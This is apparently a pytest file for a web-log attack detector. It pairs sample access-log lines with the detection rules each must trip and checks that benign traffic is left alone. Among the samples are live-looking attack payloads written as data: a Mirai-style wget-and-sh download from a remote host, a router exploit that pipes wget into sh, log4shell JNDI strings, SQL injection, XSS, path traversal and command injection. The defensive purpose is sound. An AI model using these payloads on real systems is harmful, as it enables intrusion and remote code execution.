"""Rule families, tested the way fail2ban tests its filters: sample log lines, written as a web server writes them
(Apache/Nginx combined), each annotated with the rules it must trip and whether its address must be flagged.

The attack shapes come from the public rule sets' own samples and documentation: fail2ban's apache-badbots,
apache-botsearch / nginx-botsearch, apache-noscript, php-url-fopen and apache-fakegooglebot filters; CrowdSec's
http-probing, http-sensitive-files, http-admin-interface-probing, http-backdoors-attempts, http-bad-user-agent,
http-wordpress_wpconfig and http-generic-bf scenarios; the OWASP CRS scanner-detection user agents. The hard benign
cases (busy humans, a campus NAT, a feed reader, an uptime monitor, a genuine Googlebot from its published range,
a developer hammering their own API, a mobile app behind carrier NAT) must trip nothing that flags.

Every sample is judged inside the same background: readers of a small blog at blog.example.org who load pages,
their assets and follow the site's own links, so the detector learns what a browser on this site looks like.
"""

from __future__ import annotations

import math
import random

import pytest

from nexus_backend.tracking.detection.aggregate import Aggregator, agent_oddity
from nexus_backend.tracking.detection.detector import by_ip, judge
from nexus_backend.tracking.detection.parsers import Record, parse_line
from nexus_backend.tracking.detection.rules import load_rules

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0"
SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/17.6 Mobile/15E148 Safari/604.1"
)
GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
SITE = "https://blog.example.org"
DAY = "03/Mar/2025"


def line(ip, request, status=200, *, referrer="-", agent=CHROME, second=0):
    """One combined log line at 10:mm:ss on ``DAY`` (every sample lies in the 10:00 window)."""
    stamp = f"{DAY}:10:{second // 60 % 60:02d}:{second % 60:02d} +0000"
    return f'{ip} - - [{stamp}] "{request}" {status} 512 "{referrer}" "{agent}"'


def records(lines):
    out = []
    for text in lines:
        rec = parse_line("combined", text)
        assert isinstance(rec, Record), f"sample line does not parse: {text!r} ({rec})"
        out.append(rec)
    return out


def reader(ip, agent, start=0):
    """A human reading two posts: the pages, their assets, links followed inside the site."""
    return [
        line(ip, "GET / HTTP/2.0", agent=agent, second=start),
        line(ip, "GET /static/site.css HTTP/2.0", referrer=f"{SITE}/", agent=agent, second=start + 1),
        line(ip, "GET /static/app.js HTTP/2.0", referrer=f"{SITE}/", agent=agent, second=start + 1),
        line(ip, "GET /posts/hello-world/ HTTP/2.0", referrer=f"{SITE}/", agent=agent, second=start + 30),
        line(ip, "GET /static/site.css HTTP/2.0", 304, referrer=f"{SITE}/posts/hello-world/", agent=agent,
             second=start + 31),
        line(ip, "GET /posts/second/ HTTP/2.0", referrer=f"{SITE}/posts/hello-world/", agent=agent, second=start + 90),
    ]  # fmt: skip


BACKGROUND = [x for i in range(12) for x in reader(f"198.18.0.{i + 1}", (CHROME, FIREFOX, SAFARI)[i % 3], i * 7)]


def verdicts(lines, rules=None):
    rules = rules or load_rules()
    agg = Aggregator(rules)
    agg.add_records(records(BACKGROUND + lines))
    return by_ip(judge(agg, rules))


# (what, its log lines, the address judged, rules it must trip, must it be flagged)
ATTACKS = [
    # --- probes for software the site does not run: ONE request is enough (apache-botsearch / nginx-botsearch)
    ("one WordPress login probe", [line("203.0.113.10", "GET /wp-login.php HTTP/1.1", 404)], "203.0.113.10",
     {"cms_probe"}),
    ("upper-case probe is the same probe", [line("203.0.113.11", "GET /WP-LOGIN.PHP HTTP/1.1", 404)], "203.0.113.11",
     {"cms_probe"}),
    ("phpMyAdmin setup probe", [line("203.0.113.12", "GET /phpMyAdmin/scripts/setup.php HTTP/1.1", 404)],
     "203.0.113.12", {"cms_probe"}),
    ("XML-RPC probe", [line("203.0.113.13", "POST /xmlrpc.php HTTP/1.1", 404)], "203.0.113.13", {"cms_probe"}),
    ("an environment file (http-sensitive-files)", [line("203.0.113.14", "GET /.env HTTP/1.1", 404)], "203.0.113.14",
     {"cms_probe"}),
    ("a git config", [line("203.0.113.15", "GET /.git/config HTTP/1.1", 404)], "203.0.113.15", {"cms_probe"}),
    ("wp-config backup (http-wordpress_wpconfig)", [line("203.0.113.16", "GET /wp-config.php.bak HTTP/1.1", 404)],
     "203.0.113.16", {"cms_probe"}),
    ("a web shell (http-backdoors-attempts)", [line("203.0.113.17", "GET /wp-content/plugins/x/shell.php HTTP/1.1",
     404)], "203.0.113.17", {"cms_probe"}),
    ("a secret answered 200 is still a probe", [line("203.0.113.18", "GET /.env HTTP/1.1", 200)], "203.0.113.18",
     {"cms_probe"}),
    ("php-url-fopen: a remote include on a PHP page this site does not run", [line("203.0.113.19",
     "GET /index.php?page=http://evil.example/x.txt HTTP/1.1",
     404)], "203.0.113.19", {"cms_probe"}),
    ("path traversal", [line("203.0.113.20", "GET /static/../../etc/passwd HTTP/1.1", 400)], "203.0.113.20",
     {"cms_probe"}),
    # --- scanners and bad bots by user agent (apache-badbots, CRS scanner-detection, http-bad-user-agent)
    ("sqlmap", [line("203.0.113.30", "GET /posts/?id=1 HTTP/1.1", agent="sqlmap/1.7.2#stable (https://sqlmap.org)")],
     "203.0.113.30", {"bad_user_agent"}),
    ("nuclei", [line("203.0.113.31", "GET / HTTP/1.1", agent="Mozilla/5.0 (compatible; Nuclei - Open-source project "
     "(github.com/projectdiscovery/nuclei))")], "203.0.113.31", {"bad_user_agent"}),
    ("an e-mail harvester (apache-badbots)", [line("203.0.113.32", "GET /contact/ HTTP/1.0", agent="EmailCollector")],
     "203.0.113.32", {"bad_user_agent"}),
    ("a log4shell probe in the agent", [line("203.0.113.33", "GET / HTTP/1.1",
     agent="${jndi:ldap://203.0.113.99:1389/a}")], "203.0.113.33", {"bad_user_agent"}),
    # --- impossible and obsolete user agents
    ("Chrome 120 on Windows XP does not exist", [line("203.0.113.40", "GET / HTTP/1.1", agent="Mozilla/5.0 "
     "(Windows NT 5.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36")], "203.0.113.40",
     {"obsolete_agent"}),
    ("IE 6 on XP that loads nothing", [line("203.0.113.41", "GET /posts/hello-world/ HTTP/1.1",
     agent="Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1)")], "203.0.113.41",
     {"obsolete_agent", "fake_browser"}),
    # --- spam
    ("a trackback from a client that loaded no page", [line("203.0.113.50", "POST /posts/hello-world/trackback/ "
     "HTTP/1.1", agent="WordPress/6.4; http://spam.example")], "203.0.113.50", {"spam_signature"}),
    ("comment spam: GET the form, POST it a second later, no asset", [
        line("203.0.113.51", "GET /contact/ HTTP/1.1", second=100),
        line("203.0.113.51", "POST /contact/ HTTP/1.1", 302, second=101),
    ], "203.0.113.51", {"form_spam"}),
    ("form spam that never loads the form", [line("203.0.113.52", "POST /posts/hello-world/comment HTTP/1.1", 302)],
     "203.0.113.52", {"form_spam"}),
    ("comment spam: GET a post, POST to its comment URL 2 s later with the post as referrer, no asset", [
        line("203.0.113.56", "GET /posts/second/ HTTP/1.1", second=200),
        line("203.0.113.56", "POST /posts/second/comment HTTP/1.1", 302, referrer=f"{SITE}/posts/second/",
             second=202),
    ], "203.0.113.56", {"form_spam"}),
    ("a blind login POST (a brute-force script)", [line("203.0.113.55", "POST /wp-login.php HTTP/1.1", 200)],
     "203.0.113.55", {"cms_probe"}),
    ("referrer spam: a spam word in the referring host", [line("203.0.113.53", "GET / HTTP/1.1",
     referrer="http://best-seo-offer.example/")], "203.0.113.53", {"referrer_spam"}),
    ("referrer spam: one page again and again from one off-site referrer, nothing loaded", [
        line("203.0.113.54", "GET / HTTP/1.1", referrer="http://shop-bargains.example.net/", second=s)
        for s in (0, 700, 1400)
    ], "203.0.113.54", {"referrer_spam"}),
    # --- requests no browser sends
    ("a TLS handshake on the plain port", [line("203.0.113.60", r"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03", 400,
     agent="-")], "203.0.113.60", {"bad_request"}),
    ("an open-proxy test", [line("203.0.113.61", "CONNECT www.example.com:443 HTTP/1.1", 405)], "203.0.113.61",
     {"bad_request"}),
    ("an absolute URL (proxy request)", [line("203.0.113.62", "GET http://www.example.com/ HTTP/1.1", 404)],
     "203.0.113.62", {"bad_request"}),
    # --- behaviour
    ("user-agent rotation: one address, a new browser every request, no asset",
     [line("203.0.113.70", f"GET /posts/p{i}/ HTTP/1.1", agent=CHROME.replace("131.0", f"{100 + i}.0"),
           second=i * 40) for i in range(6)],
     "203.0.113.70", {"agent_rotation"}),
    ("admin-interface probing (refused, repeated)", [line("203.0.113.71", f"GET {p} HTTP/1.1", 404) for p in
     ("/admin/", "/admin/login/", "/login/")], "203.0.113.71", {"sensitive_paths"}),
    ("brute force on the login form", [line("203.0.113.72", "POST /login/ HTTP/1.1", 401, second=s) for s in
     range(0, 600, 100)], "203.0.113.72", {"auth_failures"}),
    ("a fake Googlebot that probes (apache-fakegooglebot)", [line("203.0.113.73", "GET /wp-login.php HTTP/1.1", 404,
     agent=GOOGLEBOT)], "203.0.113.73", {"fake_crawler", "cms_probe"}),
    # --- attack payloads in the query string (CRS 930-944, CrowdSec http-sqli/xss/path-traversal-probing): one
    # request suffices, on a page the site serves (the probe families would not see it)
    ("SQL injection: union select on a page of the site", [line("203.0.113.160",
     "GET /posts/?id=1%27%20UNION%20ALL%20SELECT%20NULL,NULL,CONCAT(0x71,user())--%20- HTTP/1.1")], "203.0.113.160",
     {"payload"}),
    ("SQL injection: a tautology", [line("203.0.113.161", "GET /posts/hello-world/?id=1'+or+'1'='1 HTTP/1.1")],
     "203.0.113.161", {"payload"}),
    ("XSS in the search box", [line("203.0.113.162", "GET /search/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E "
     "HTTP/1.1", referrer=f"{SITE}/")], "203.0.113.162", {"payload"}),
    ("path traversal in a parameter", [line("203.0.113.163", "GET /download/?file=../../../../etc/passwd HTTP/1.1")],
     "203.0.113.163", {"payload"}),
    ("log4shell in the query string", [line("203.0.113.164",
     "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fa%7D HTTP/1.1")], "203.0.113.164", {"payload"}),
    ("ThinkPHP invokefunction", [line("203.0.113.165", r"GET /index.php?s=/Index/\\think\\app/invokefunction&"
     "function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP21 HTTP/1.1", 404)], "203.0.113.165",
     {"payload"}),
    ("Mirai: a shell command to a bare /shell", [line("203.0.113.166",
     "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/bins.sh;chmod+777+bins.sh;sh+bins.sh HTTP/1.1", 404,
     agent="Hello, world")], "203.0.113.166", {"payload", "cms_probe"}),
    ("PHP CGI argument injection", [line("203.0.113.167", "POST /?-d+allow_url_include%3d1+-d+auto_prepend_file%3d"
     "php://input HTTP/1.1", 200)], "203.0.113.167", {"payload"}),
    ("an Xdebug session probe", [line("203.0.113.168", "GET /?XDEBUG_SESSION_START=phpstorm HTTP/1.1")],
     "203.0.113.168", {"payload"}),
    ("a command in a cmd parameter", [line("203.0.113.169", "GET /ping/?cmd=127.0.0.1;cat%20/etc/passwd HTTP/1.1")],
     "203.0.113.169", {"payload"}),
    ("an IoT router exploit path (no extension)", [line("203.0.113.170",
     "GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http://198.51.100.7"
     "/t%7Csh%60) HTTP/1.1", 404)], "203.0.113.170", {"cms_probe", "payload"}),
    ("IPv6 rotation inside one /64 is one client", [
        line(f"2001:db8:5:6::{i:x}", f"GET /p{i}/ HTTP/1.1", 404, agent=f"{FIREFOX[:-5]}{120 + i}.0", second=i)
        for i in range(1, 7)
    ], "2001:db8:5:6::/64", {"agent_rotation"}),
    ("IPv6 rotation inside one /64: a new address every few requests, one agent, reading pages", [
        line(f"2001:db8:5:7::{i // 2 + 1:x}", f"GET /posts/p{i}/ HTTP/1.1", agent=FIREFOX, second=i * 20)
        for i in range(20)
    ], "2001:db8:5:7::/64", {"address_rotation"}),
]  # fmt: skip


@pytest.mark.parametrize(("what", "lines", "ip", "must"), ATTACKS, ids=[a[0] for a in ATTACKS])
def test_attack_shapes_are_flagged(what, lines, ip, must):
    found = verdicts(lines)
    assert ip in found, f"{what}: tripped nothing"
    f = found[ip]
    assert must <= set(f.rules), f"{what}: must trip {must - set(f.rules)} (tripped {f.rules})"
    assert f.flagged, f"{what}: tripped {f.rules} with score {f.score}, below the threshold"


def test_distributed_login_failures_flag_the_campaign_not_one_address():
    tries = [line(f"203.0.113.{100 + i}", "POST /login/ HTTP/1.1", 401, agent="python-requests/2.32",
                  second=i * 300) for i in range(6)]  # fmt: skip
    found = verdicts(tries)
    assert all(found[f"203.0.113.{100 + i}"].flagged for i in range(6))
    assert all("login_campaign" in found[f"203.0.113.{100 + i}"].rules for i in range(6))
    # one address failing once is no campaign (a blind POST by a tool is still noted, below the threshold)
    alone = verdicts(tries[:1])["203.0.113.100"]
    assert "login_campaign" not in alone.rules and not alone.flagged


def test_graphql_mutations_are_seen_by_the_login_and_vote_rules():
    logins = [line("203.0.113.80", "POST /graphql/mutation/tokenAuth HTTP/1.1", 401, second=s) for s in range(6)]
    votes = [line(f"203.0.113.{150 + i}", "POST /graphql/mutation/vote HTTP/1.1", 201) for i in range(10)]
    found = verdicts(logins + votes)
    assert "auth_failures" in found["203.0.113.80"].rules and found["203.0.113.80"].flagged
    assert all("fingerprint_burst" in found[f"203.0.113.{150 + i}"].rules for i in range(10))


def test_admin_path_follows_the_setting(settings):
    settings.NEXUS_ADMIN_PATH = "staff-7f3a/"
    rules = load_rules()
    probing = [line("203.0.113.90", f"GET /staff-7f3a/{p} HTTP/1.1", 302) for p in ("", "polls/", "auth/")]
    assert "sensitive_paths" in verdicts(probing, rules)["203.0.113.90"].rules
    stuffing = [line("203.0.113.91", "POST /staff-7f3a/login/ HTTP/1.1", 401, second=s) for s in range(6)]
    assert "auth_failures" in verdicts(stuffing, rules)["203.0.113.91"].rules


def test_every_flag_names_the_requests_behind_each_rule():
    f = verdicts([line("203.0.113.10", "GET /wp-login.php HTTP/1.1", 404)])["203.0.113.10"]
    assert f.evidence["cms_probe"]["requests"] == ["GET /wp-login.php 404"]
    assert "wordpress" in f.reasons[0] and "GET /wp-login.php 404" in f.reasons[0]


# ------------------------------------------------------------------------------------------- hard benign


def _monitor():
    agent = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
    return [line("203.0.114.1", "HEAD / HTTP/1.1", agent=agent, second=s) for s in range(0, 3600, 60)]


def _feed_reader():
    agent = "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)"
    return [line("203.0.114.2", "GET /feed/ HTTP/1.1", 304, agent=agent, second=s) for s in range(0, 3600, 600)]


def _busy_human():
    pages = [f"/posts/p{i}/" for i in range(120)]
    out = []
    for i, page in enumerate(pages):
        out += [
            line("203.0.114.3", f"GET {page} HTTP/2.0", referrer=f"{SITE}/", agent=FIREFOX, second=i * 25),
            line("203.0.114.3", "GET /static/site.css HTTP/2.0", 304, referrer=f"{SITE}{page}", agent=FIREFOX,
                 second=i * 25),
        ]  # fmt: skip
    out.append(line("203.0.114.3", "GET /posts/missing/ HTTP/2.0", 404, referrer=f"{SITE}/", agent=FIREFOX))
    return out


def _campus_nat():
    out = []
    for i in range(40):
        agent = (CHROME, FIREFOX, SAFARI)[i % 3].replace("131.0", f"{125 + i % 7}.0")
        out += [x.replace(f"198.18.0.{1 + i % 12} ", "203.0.114.4 ", 1) for x in reader(f"198.18.0.{1 + i % 12}",
                agent, i * 60)]  # fmt: skip
        if i % 8 == 0:
            out.append(line("203.0.114.4", "POST /login/ HTTP/2.0", 401, referrer=f"{SITE}/login/", agent=agent))
        out.append(line("203.0.114.4", "POST /login/ HTTP/2.0", 302, referrer=f"{SITE}/login/", agent=agent))
    return out


def _one_browser_nat():
    """A lab of 30 people behind one address with the same managed browser build, each reading posts at a person's
    pace (pauses of seconds to minutes): over 150 distinct pages in the hour, a new one every 5 s (median), but
    not steadily."""
    rng = random.Random(8)
    out = []
    for _ in range(30):
        t = rng.uniform(0, 1200)
        for _ in range(6):
            page = f"/posts/p{rng.randrange(1000)}/"
            out.append(line("203.0.114.17", f"GET {page} HTTP/2.0", referrer=f"{SITE}/", agent=CHROME, second=int(t)))
            out.append(line("203.0.114.17", "GET /static/site.css HTTP/2.0", 304, referrer=f"{SITE}{page}",
                            agent=CHROME, second=int(t)))  # fmt: skip
            t += rng.lognormvariate(math.log(25) - 0.5, 1.0)
    return out


def _headless_walk(ip, agent, pace):
    """A scripted browser: the home page with its assets, then 40 posts in order, each referred by the one before,
    ``pace(k)`` seconds apart."""
    out = [line(ip, "GET / HTTP/2.0", agent=agent)]
    out += [line(ip, f"GET /static/{a} HTTP/2.0", referrer=f"{SITE}/", agent=agent) for a in ("site.css", "app.js")]
    t, before = 0.0, "/"
    for k in range(40):
        t += pace(k)
        out.append(line(ip, f"GET /posts/p{k}/ HTTP/2.0", referrer=f"{SITE}{before}", agent=agent, second=int(t)))
        before = f"/posts/p{k}/"
    return out


def test_a_scripted_browser_walking_at_a_machine_pace_is_flagged():
    """``machine_pace``: assets loaded and every link followed like a reader, yet a new page every 2-4 s, steadily.
    The same walk at a person's pace (log-normal pauses around 15 s) trips nothing."""
    rng = random.Random(3)
    found = verdicts(
        _headless_walk("203.0.113.95", CHROME, lambda k: rng.uniform(1.5, 4))
        + _headless_walk("203.0.114.18", FIREFOX, lambda k: rng.lognormvariate(math.log(25) - 0.5, 1))
    )
    assert found["203.0.113.95"].rules == ["machine_pace"] and found["203.0.113.95"].flagged
    assert "203.0.114.18" not in found


def _genuine_googlebot():
    # 66.249.66.1 is inside Google's published googlebot.json; it even follows a stale link to a probe path
    out = [line("66.249.66.1", f"GET /posts/p{i}/ HTTP/1.1", agent=GOOGLEBOT, second=i * 10) for i in range(300)]
    return out + [line("66.249.66.1", "GET /wp-login.php HTTP/1.1", 404, agent=GOOGLEBOT)]


def _developer():
    agent = "python-requests/2.32.3"
    out = [line("203.0.114.5", "GET /api/polls/1/ HTTP/1.1", agent=agent, second=i % 3600) for i in range(3000)]
    return out + [line("203.0.114.5", "POST /api/polls/1/vote/ HTTP/1.1", 400, agent=agent) for _ in range(20)]


def _developer_logins():
    """A developer testing their own login with a tool among their API calls: 5 of 6 logins fail (wrong token)."""
    agent, ip = "curl/8.5.0", "203.0.114.16"
    out = [line(ip, "GET /api/polls/1/ HTTP/1.1", agent=agent, second=i * 6) for i in range(400)]
    tries = [line(ip, "POST /login/ HTTP/1.1", 401 if i else 302, agent=agent, second=7 + i * 300) for i in range(6)]
    return out + tries


def test_failed_logins_among_other_requests_count_when_the_attempts_are_the_traffic():
    """``auth_failures.max_other_per_attempt``: a guesser who GETs the form before each try is still flagged; the
    developer's six tries among 400 API calls are not."""
    ip, curl = "203.0.113.90", "curl/8.5.0"
    guesser = [x for i in range(6) for x in (line(ip, "GET /login/ HTTP/1.1", agent=curl, second=i * 60),
               line(ip, "POST /login/ HTTP/1.1", 401 if i else 302, agent=curl, second=i * 60 + 1))]  # fmt: skip
    found = verdicts(guesser + _developer_logins())
    assert "auth_failures" in found[ip].rules and found[ip].flagged
    assert "203.0.114.16" not in found or "auth_failures" not in found["203.0.114.16"].rules


def _mobile_app_nat():
    agent = "NexusPolls/2.3 (iPhone; iOS 17.1) CFNetwork/1474 Darwin/23.1.0"
    out = [line("203.0.114.6", f"GET /api/polls/{i % 50}/ HTTP/2.0", agent=agent, second=i % 3600) for i in range(800)]
    out += [line("203.0.114.6", "POST /api/auth/token/ HTTP/2.0", 200, agent=agent) for _ in range(60)]
    return out + [line("203.0.114.6", "POST /api/auth/token/ HTTP/2.0", 401, agent=agent) for _ in range(6)]


def _reader_from_a_link():
    ref = "https://news.ycombinator.com/item?id=1"
    return [
        line("203.0.114.7", "GET /posts/hello-world/ HTTP/2.0", referrer=ref, agent=SAFARI),
        line("203.0.114.7", "GET /static/site.css HTTP/2.0", referrer=f"{SITE}/posts/hello-world/", agent=SAFARI),
        line("203.0.114.8", "GET /posts/hello-world/ HTTP/2.0", referrer="https://a-friends-blog.example/links/"),
        line("203.0.114.8", "GET /static/site.css HTTP/2.0", referrer=f"{SITE}/posts/hello-world/"),
    ]


def _comment_after_an_hour():
    # the page was read in the previous window; its assets are cached, so only the POST shows here
    return [line("203.0.114.10", "POST /posts/hello-world/comment HTTP/2.0", 302, referrer=f"{SITE}/posts/hello-world/",
                 agent=SAFARI)]  # fmt: skip


def _comment_from_the_cache():
    # a returning reader: the post comes again (its assets cached, none requested), a comment two minutes later
    return [line("203.0.114.14", "GET /posts/second/ HTTP/2.0", 304, referrer=f"{SITE}/", agent=FIREFOX, second=600),
            line("203.0.114.14", "POST /posts/second/comment HTTP/2.0", 302, referrer=f"{SITE}/posts/second/",
                 agent=FIREFOX, second=720)]  # fmt: skip


def _sign_in_then_comment():
    """A returning reader (assets cached) opens a post, signs in through the login form, and comments on the post six
    minutes later: the comment goes to another URL than the page, and there was a login in the window."""
    ip = "203.0.114.19"
    return [line(ip, "GET /posts/second/ HTTP/2.0", 304, referrer="https://www.google.com/", agent=FIREFOX, second=10),
            line(ip, "GET /login/ HTTP/2.0", 200, referrer=f"{SITE}/posts/second/", agent=FIREFOX, second=30),
            line(ip, "POST /login/ HTTP/2.0", 302, referrer=f"{SITE}/login/", agent=FIREFOX, second=45),
            line(ip, "POST /posts/second/comment HTTP/2.0", 302, referrer=f"{SITE}/posts/second/", agent=FIREFOX,
                 second=400)]  # fmt: skip


def _login_across_the_hour():
    # the login page was loaded at 09:59; the POST (a success: redirected) lands in the 10:00 window
    return [line("203.0.114.11", "POST /login/ HTTP/2.0", 302, referrer=f"{SITE}/login/", agent=FIREFOX)]


def _owner_login_across_the_hour():
    """The owner loaded the login form at 09:59:57, mistyped the password at 10:00:05, got in at 10:00:13 and went on
    to read: in the 10:00 window alone (all the hourly task sees), two blind login POSTs, one failed."""
    ip, form = "203.0.114.15", f"{SITE}/login/"
    return [
        line(ip, "POST /login/ HTTP/2.0", 200, referrer=form, agent=SAFARI, second=5),
        line(ip, "POST /login/ HTTP/2.0", 302, referrer=form, agent=SAFARI, second=13),
        line(ip, "GET /posts/hello-world/ HTTP/2.0", referrer=f"{SITE}/", agent=SAFARI, second=15),
        line(ip, "GET /posts/second/ HTTP/2.0", referrer=f"{SITE}/posts/hello-world/", agent=SAFARI, second=60),
    ]


def _carrier_nat_logins():
    agent = "NexusPolls/2.3 (Android 14; Pixel 8) okhttp/4.12.0"
    fails = [line("203.0.114.12", "POST /login/ HTTP/2.0", 200, agent=agent, second=s) for s in range(0, 500, 100)]
    return fails + [line("203.0.114.12", "POST /login/ HTTP/2.0", 302, agent=agent, second=s) for s in (50, 450)]


def _typing_a_url():
    return [line("203.0.114.9", "GET /posts/hello-world/ HTTP/2.0", agent=SAFARI)]


def _searches_with_quotes():
    """A reader searching the blog with apostrophes, quotes, SQL and shell words, URLs and paths in parameters."""
    ip = "203.0.114.13"
    queries = ["o%27brien%27s+pub", "select+a+union+rep", "%22best+pizza%22+or+pasta", "it%27s+5+o%27clock",
               "rock+%26+roll", "1%2B1%3D2", "learn+javascript:+the+good+parts", "cd+player+rm+50", "%3C3+love",
               "Tom+%26+Jerry%3B+season+1", "don%27t+or+won%27t", "a+%3C+b+and+c+%3E+d", "C%3A%5CUsers%5Cme",
               "sleep+apnea+(adults)", "drop+shipping;+update+2024", "%27or+something%27"]  # fmt: skip
    out = reader(ip, FIREFOX, 100)
    out += [line(ip, f"GET /search/?q={q} HTTP/2.0", referrer=f"{SITE}/", agent=FIREFOX, second=200 + i)
            for i, q in enumerate(queries)]  # fmt: skip
    out += [line(ip, "GET /out/?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1&utm_source=blog HTTP/2.0",
                 referrer=f"{SITE}/posts/second/", agent=FIREFOX, second=300),
            line(ip, "GET /posts/second/?ref=../about&page=2 HTTP/2.0", referrer=f"{SITE}/", agent=FIREFOX,
                 second=310)]  # fmt: skip
    return out


def _campus_ipv6():
    """A lecture hall on one IPv6 /64: 12 managed laptops (the same browser build), each on its own privacy
    address, reading the blog with its assets."""
    return [x for i in range(12) for x in reader(f"2001:db8:9:9::{i + 1:x}", CHROME, i * 30)]


def _preconnects():
    """A reader whose browser opened connections it never used (a preconnect, a keep-alive timed out): Apache logs
    each as a request line "-" answered 408, nginx as "" answered 400, with no agent."""
    ip = "203.0.114.18"
    return reader(ip, CHROME) + [
        line(ip, "-", 408, agent="-", second=70),
        line(ip, "", 400, agent="-", second=150),
    ]


BENIGN = [
    ("uptime monitor", _monitor, "203.0.114.1"),
    ("a reader's unused browser connections, logged as '-' 408 and '' 400", _preconnects, "203.0.114.18"),
    ("feed reader", _feed_reader, "203.0.114.2"),
    ("busy human", _busy_human, "203.0.114.3"),
    ("campus NAT", _campus_nat, "203.0.114.4"),
    ("a campus /64: many privacy addresses, one managed browser, pages and assets", _campus_ipv6, "2001:db8:9:9::/64"),
    ("genuine Googlebot from its published range", _genuine_googlebot, "66.249.66.1"),
    ("developer hammering their own API", _developer, "203.0.114.5"),
    ("developer testing their own login (5 of 6 fail) among their API calls", _developer_logins, "203.0.114.16"),
    ("a lab of readers behind one NAT with one managed browser build", _one_browser_nat, "203.0.114.17"),
    ("mobile app behind carrier NAT, one agent, no referrer", _mobile_app_nat, "203.0.114.6"),
    ("readers arriving from links", _reader_from_a_link, "203.0.114.7"),
    ("a reader following a small blog's link", _reader_from_a_link, "203.0.114.8"),
    ("one page typed into the address bar", _typing_a_url, "203.0.114.9"),
    ("a comment on a page read an hour earlier", _comment_after_an_hour, "203.0.114.10"),
    (
        "a returning reader's comment, two minutes after the page (assets cached)",
        _comment_from_the_cache,
        "203.0.114.14",
    ),
    ("a reader who signs in through the form, then comments minutes later", _sign_in_then_comment, "203.0.114.19"),
    ("a login whose form was loaded in the previous window", _login_across_the_hour, "203.0.114.11"),
    (
        "a mistyped login whose form was loaded in the previous window, then reading",
        _owner_login_across_the_hour,
        "203.0.114.15",
    ),
    ("a carrier NAT: typos between successful logins", _carrier_nat_logins, "203.0.114.12"),
    ("searches with quotes, SQL and shell words, URLs in parameters", _searches_with_quotes, "203.0.114.13"),
]


@pytest.mark.parametrize(("what", "make", "ip"), BENIGN, ids=[b[0] for b in BENIGN])
def test_hard_benign_traffic_is_not_flagged(what, make, ip):
    found = verdicts(make())
    assert ip not in found or not found[ip].flagged, f"{what}: flagged by {found[ip].rules} ({found[ip].reasons})"


def test_a_form_loaded_in_the_window_before_is_looked_up_there():
    """Where the aggregates cover the window before (a replayed log), a login POSTed at 10:00:05 is judged by the
    form's GET at 09:59:57 there: eight seconds, a person. Where that window holds no GET of the form, the same
    POSTs are blind and flagged, even though the client went on reading."""
    owner = _owner_login_across_the_hour()
    earlier = [x.replace(f"{DAY}:10:", f"{DAY}:09:") for x in reader("198.18.1.1", CHROME, 3000)]  # 09:50
    loaded = line("203.0.114.15", "GET /login/ HTTP/2.0", agent=SAFARI, second=3597).replace(":10:59:57", ":09:59:57")
    found = verdicts(earlier + [loaded] + owner)
    owner_found = found.get("203.0.114.15")
    assert owner_found is None or ("form_spam" not in owner_found.rules and not owner_found.flagged)
    elsewhere = line("203.0.114.15", "GET /posts/second/ HTTP/2.0", agent=SAFARI, second=3597)
    found = verdicts(earlier + [elsewhere.replace(":10:59:57", ":09:59:57")] + owner)
    assert "form_spam" in found["203.0.114.15"].rules and found["203.0.114.15"].flagged


def test_the_background_readers_trip_nothing():
    assert not verdicts([])


def test_a_site_that_runs_wordpress_is_not_probed_by_its_readers():
    """Where /wp-content/ answers 2xx to readers, WordPress paths are the site's pages: a reader commenting
    (the page loaded, then the comment POSTed) is no probe and no spam; a blind XML-RPC POST still is spam."""
    wp = []
    for i in range(5):
        ip = f"198.19.0.{i + 1}"
        wp += [
            line(ip, "GET /2024/05/hello/ HTTP/2.0", referrer=f"{SITE}/"),
            line(ip, "GET /wp-content/themes/t/style.css HTTP/2.0", referrer=f"{SITE}/2024/05/hello/"),
            line(ip, "GET /wp-includes/js/jquery.min.js HTTP/2.0", referrer=f"{SITE}/2024/05/hello/"),
        ]
    wp += [line("198.19.0.1", "POST /wp-comments-post.php HTTP/2.0", 302, referrer=f"{SITE}/2024/05/hello/",
                second=120)]  # fmt: skip
    wp += [line("203.0.113.120", "POST /xmlrpc.php HTTP/1.1", 200, agent="Mozilla/5.0 (compatible)")]
    # a slow brute force: one blind POST to the login form, its own URL as referrer (what the tools send)
    wp += [line("203.0.113.121", "POST /wp-login.php HTTP/1.1", 200, referrer=f"{SITE}/wp-login.php")]
    found = verdicts(wp)
    assert not any(f.flagged for ip, f in found.items() if ip.startswith("198.19."))
    assert {"spam_signature"} <= set(found["203.0.113.120"].rules) and found["203.0.113.120"].flagged
    assert {"form_spam"} <= set(found["203.0.113.121"].rules) and found["203.0.113.121"].flagged


def test_probes_answered_200_by_a_catch_all_are_still_probes():
    """A site answering 200 to every path does not "serve" WordPress because scanners got a 200 for it: serving
    is learned from readers (a referrer, assets loaded), not from whoever asked."""
    probes = [line(f"203.0.113.{140 + i}", "GET /wp-login.php HTTP/1.1", 200, referrer=f"{SITE}/") for i in range(6)]
    found = verdicts(probes)
    assert all("cms_probe" in found[f"203.0.113.{140 + i}"].rules for i in range(6))


def test_a_crawler_claim_alone_is_weak():
    found = verdicts([line("203.0.113.130", "GET /posts/hello-world/ HTTP/1.1", agent=GOOGLEBOT)])
